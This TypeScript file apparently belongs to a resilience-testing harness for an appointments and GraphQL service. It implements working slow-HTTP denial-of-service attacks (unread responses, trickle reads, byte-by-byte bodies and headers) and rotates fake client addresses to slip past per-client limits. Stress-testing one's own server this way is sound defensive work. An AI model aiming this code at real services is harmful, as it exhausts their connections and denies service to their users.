import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import type { Attack, Ground, Notes } from "../attack.js";
import { graphql } from "../requests.js";
import { heldConnections } from "../sockets.js";
import { onWire } from "./capacity.js";
import { LARGEST_ANSWER } from "./queries.js";

const LOOK_MILLISECONDS = 250;
/** What a trickling reader takes each second: more than nothing, and far too little. */
const TRICKLE_BYTES = 8_192;

/** Within so many seconds they come: all at once they would be a crowd, of which a server may turn some away. */
const COMING_SECONDS = 3;

/** What a slow caller does with its socket. */
interface Habit {
  /** Sends its first bytes, as the client with this address. */
  first: (address: string, client: string) => string;
  /** The number of new sockets per second; if left out, all are opened within COMING_SECONDS. */
  perSecond?: number;
  /** Called each second after that. */
  everySecond?: (socket: Socket) => void;
}

/** So many callers at a time who hold on to a socket each; who was let go comes again. */
const holding = (name: string, habit: Habit): Attack => ({
  name,
  isSlow: true,
  async run(ground, notes) {
    const until = AbortSignal.timeout(ground.seconds * 1_000);
    const crowd = gather(ground, habit, notes);
    while (!until.aborted) {
      crowd.fill();
      await delay(LOOK_MILLISECONDS);
      await crowd.look();
    }
    crowd.end();
  },
});

interface Held {
  socket: Socket;
  since: number;
}

function gather({ address, slowSockets }: Ground, habit: Habit, notes: Notes) {
  const { perSecond = slowSockets / COMING_SECONDS } = habit;
  const began = performance.now();
  const { port } = new URL(address);
  const held = new Set<Held>();
  let opened = 0;
  const timer = setInterval(() => {
    for (const { socket } of held) habit.everySecond?.(socket);
  }, 1_000);
  return {
    fill() {
      const due = 1 + Math.floor(((performance.now() - began) / 1_000) * perSecond);
      while (opened < due && held.size < slowSockets) {
        opened += 1;
        held.add({ socket: open(address, habit, clientOf(opened)), since: performance.now() });
        notes.sent();
        notes.opened();
      }
    },
    /** Records which sockets the server has closed, as its end of the connection shows even if data is unread. */
    async look() {
      const connected = await heldConnections(Number(port));
      for (const each of held) {
        const age = performance.now() - each.since;
        const { localPort } = each.socket;
        const isNew = each.socket.connecting || age < LOOK_MILLISECONDS;
        if (isNew || (localPort !== undefined && connected.has(localPort))) continue;
        notes.gone(age);
        each.socket.destroy();
        held.delete(each);
      }
    },
    end() {
      clearInterval(timer);
      for (const { socket, since } of held) {
        notes.held(performance.now() - since);
        socket.destroy();
      }
    },
  };
}

/** Each is a client of its own, so that no share of one client protects the others. */
const clientOf = (number: number): string => `203.${(number >> 8) % 256}.113.${number % 256}`;

function open(address: string, { first }: Habit, client: string): Socket {
  const { hostname, port } = new URL(address);
  const socket = connect({
    host: hostname,
    port: Number(port),
    // Reads only a limited number of bytes, and only when it is called.
    onread: {
      buffer: Buffer.alloc(TRICKLE_BYTES),
      callback: () => false,
    },
  });
  socket.pause();
  socket.on("error", () => undefined);
  socket.write(first(address, client));
  return socket;
}

/** A connection that ends with its answer: nothing but that answer keeps it. */
const closing = (request: string): string =>
  request.replace("\r\nhost:", "\r\nconnection: close\r\nhost:");

const askFor = (path: string) => (address: string, client: string) =>
  closing(onWire(address, { method: "GET", path }, client));

const takeLittle = (socket: Socket): void => {
  socket.resume();
};

const sendLittle = (socket: Socket): void => {
  if (socket.writable) socket.write(" ");
};

/** Its body is announced, and comes byte by byte. */
const endlessBody = (path: string) => (address: string, client: string) =>
  onWire(address, { method: "POST", path, body: " " }, client).replace(
    "content-length: 1",
    "content-length: 1000",
  );

export const slowAttacks: readonly Attack[] = [
  holding("callers who don't read a list", { first: askFor("/appointments") }),
  holding("callers who don't read an answer of 3.5 MB", {
    first: (address, client) => closing(onWire(address, graphql(LARGEST_ANSWER), client)),
    // All at once, they would be a crowd with costly queries that wait for each other.
    perSecond: 1,
  }),
  holding("callers who read a list at 8 KB a second", {
    first: askFor("/appointments"),
    everySecond: takeLittle,
  }),
  holding("callers who send a query byte by byte", {
    first: endlessBody("/graphql"),
    everySecond: sendLittle,
  }),
  holding("callers who send a booking byte by byte", {
    first: endlessBody("/appointments"),
    everySecond: sendLittle,
  }),
  holding("callers who send headers byte by byte", {
    first: (address) =>
      `GET /appointments HTTP/1.1\r\nhost: ${new URL(address).host}\r\nx-header: `,
    everySecond: (socket) => {
      if (socket.writable) socket.write("x");
    },
  }),
];
